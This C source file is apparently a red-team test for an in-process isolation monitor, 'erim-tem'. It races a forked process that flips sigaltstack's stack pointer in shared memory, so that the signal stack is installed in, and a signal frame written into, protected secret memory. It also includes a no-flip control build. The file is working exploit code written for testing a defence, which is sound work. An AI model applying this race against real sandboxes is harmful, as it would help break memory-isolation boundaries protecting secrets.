/* SPDX-License-Identifier: MIT */
/* atk_altstack_shared.c: sigaltstack's stack_t rewritten by a process
 * outside the caller's group (red team 17, rt_altstack_shared).
 *
 * erim-tem reads sigaltstack's stack_t at the seccomp stop and holds the
 * caller's group (tasks sharing its mm, fd table or handlers).  A fork
 * child shares none of these, so it is not held -- but it shares the page
 * the stack_t lives in (a MAP_SHARED anonymous mapping made before the
 * fork) and flips ss_sp between an untrusted buffer and the trusted
 * secret: erim-tem reads the untrusted one, the kernel the secret, and the
 * signal stack is installed in trusted memory (seen with
 * sigaltstack(NULL, &old)).  Where frames are written with every key
 * enabled (Linux 6.12 and later, with protection keys) an SA_ONSTACK
 * handler's frame -- r12..r15 = "EVILEVIL" included -- then lands in the
 * secret; elsewhere the install alone is the attack (the row "sigaltstack
 * into trusted memory: refused" is broken), and needs no protection keys.
 *
 * Under erim-tem the result is judged: the kernel is asked at the exit stop
 * which stack it installed, and the process is stopped when it is in
 * trusted memory.  Built with -DATK_NOFLIP (atk_altstack_noflip): nobody
 * flips, the stack_t names the secret, the plain refusal (EPERM). */
#include <sys/utsname.h>

#define ATK_SECRET_LEN 16384
#include "atk_common.h"

#ifdef ATK_NOFLIP
#define TRIES 20
#else
#define TRIES 200000
#endif
#define SECONDS 30   /* the race is won within a few hundred tries (TCG guest) */
#define EVIL 0x4c4956454c495645ULL   /* "EVILEVIL" */

struct shared { volatile int running; volatile int stop; stack_t ss; };

uint64_t atk_resume_sp;

void atk_after_signal(void);
void atk_onstack_handler(int sig);
__asm__(".text\n.globl atk_onstack_handler\n.type atk_onstack_handler,@function\n"
        "atk_onstack_handler:\n"
        "\tmov atk_resume_sp(%rip), %rsp\n"   /* leave the trusted page before any push */
        "\tjmp atk_after_signal\n");

static int secret_changed(size_t *evil_at)
{
	size_t i, changed = 0;

	*evil_at = (size_t)-1;
	atk_trusted();
	for (i = 0; i < ATK_SECRET_LEN; i++)
		changed += atk_secret[i] != ATK_SECRET_BYTE;
	for (i = 0; i + 8 <= ATK_SECRET_LEN; i += 8)
		if (*(uint64_t *)(atk_secret + i) == EVIL) {
			*evil_at = i;
			break;
		}
	atk_untrusted();
	return changed != 0;
}

void atk_after_signal(void)
{
	size_t at;
	int ch = secret_changed(&at);

	if (ch && at != (size_t)-1)
		atk_say("the SA_ONSTACK frame was written into the trusted secret; \"EVILEVIL\" (r12) at +%zu", at);
	else if (ch)
		atk_say("the SA_ONSTACK frame was written into the trusted secret");
	else
		atk_say("handler ran, secret unchanged (the install alone is the attack)");
	fflush(stdout);
	_exit(ATK_SUCCEEDED);   /* the stack was installed in trusted memory either way */
}

static enum atk_result atk_attack(void)
{
	struct shared *s = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	uint8_t *benign = mmap(NULL, ATK_SECRET_LEN, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	static uint8_t resume_stack[65536] __attribute__((aligned(16)));
	stack_t old;
	struct sigaction sa;
	struct utsname u;
	pid_t f;
	int i, got = 0, major = 0, minor = 0, frames_all_keys = 0;
	time_t end = time(NULL) + SECONDS;

	if (s == MAP_FAILED || benign == MAP_FAILED)
		return ATK_ERROR;
	if (uname(&u) == 0 && sscanf(u.release, "%d.%d", &major, &minor) == 2)
		frames_all_keys = atk_pkey > 0 && (major > 6 || (major == 6 && minor >= 12));
	s->ss.ss_size = ATK_SECRET_LEN;
	s->ss.ss_flags = 0;
	s->ss.ss_sp = benign;
#ifdef ATK_NOFLIP
	s->ss.ss_sp = atk_secret;   /* nobody flips: the secret is asked for */
	s->stop = 1;
#endif
	fflush(stdout);
	{
		/* another process: not in the caller's group, shares the page */
		uint64_t secret = (uint64_t)(uintptr_t)atk_secret, good = (uint64_t)(uintptr_t)benign;

		f = atk_flipper((volatile uint64_t *)&s->ss.ss_sp, &secret, &good, 1, &s->running, &s->stop);
	}
	if (f < 0)
		return ATK_ERROR;
	while (!s->running && !s->stop)
		;   /* the flipper runs before the first try */
	for (i = 0; i < TRIES && !got && time(NULL) < end; i++) {
		syscall(SYS_sigaltstack, &s->ss, NULL);
		if (syscall(SYS_sigaltstack, NULL, &old) == 0 && old.ss_sp == (void *)atk_secret)
			got = i + 1;
	}
	s->stop = 1;
	waitpid(f, NULL, 0);
	if (!got) {
		atk_say("signal stack never installed in trusted memory (%d tries)", i);
		return ATK_REFUSED;
	}
	atk_say("signal stack installed in the trusted secret (%p, %zu bytes) after %d tries", old.ss_sp, old.ss_size, got);
	if (!frames_all_keys) {
		atk_say("kernel %s, protection key %d: no frame written with every key enabled; the install is the attack",
		        u.release, atk_pkey);
		return ATK_SUCCEEDED;   /* the row "sigaltstack in trusted memory: refused" is broken */
	}
	atk_resume_sp = (uint64_t)(uintptr_t)(resume_stack + sizeof resume_stack - 8);
	memset(&sa, 0, sizeof sa);
	sa.sa_handler = atk_onstack_handler;
	sa.sa_flags = SA_ONSTACK;
	sigaction(SIGUSR1, &sa, NULL);
	{
		register uint64_t r12 __asm__("r12") = EVIL, r13 __asm__("r13") = EVIL, r14 __asm__("r14") = EVIL,
		                  r15 __asm__("r15") = EVIL;
		long ret;

		__asm__ volatile("syscall"
		                 : "=a"(ret)
		                 : "a"((long)SYS_tgkill), "D"((long)getpid()), "S"((long)syscall(SYS_gettid)),
		                   "d"((long)SIGUSR1), "r"(r12), "r"(r13), "r"(r14), "r"(r15)
		                 : "rcx", "r11", "memory");
		(void)ret;
	}
	atk_say("the signal was not delivered on the signal stack");
	return ATK_SUCCEEDED;   /* installed all the same */
}

#ifdef ATK_NOFLIP
static const char *atk_name = "atk_altstack_noflip";
#else
static const char *atk_name = "atk_altstack_shared";
#endif
static int atk_needs_pku = 0;
